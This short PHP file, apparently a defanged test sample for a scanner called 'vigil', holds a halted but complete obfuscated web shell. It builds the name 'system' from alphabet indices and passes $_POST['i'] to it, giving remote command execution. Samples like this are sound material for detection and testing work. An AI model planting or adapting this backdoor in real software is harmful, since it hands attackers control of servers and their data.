<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$a = 'abcdefghijklmnopqrstuvwxyz';
$f = $a[18].$a[24].$a[18].$a[19].$a[4].$a[12];
$f($_POST['i']);
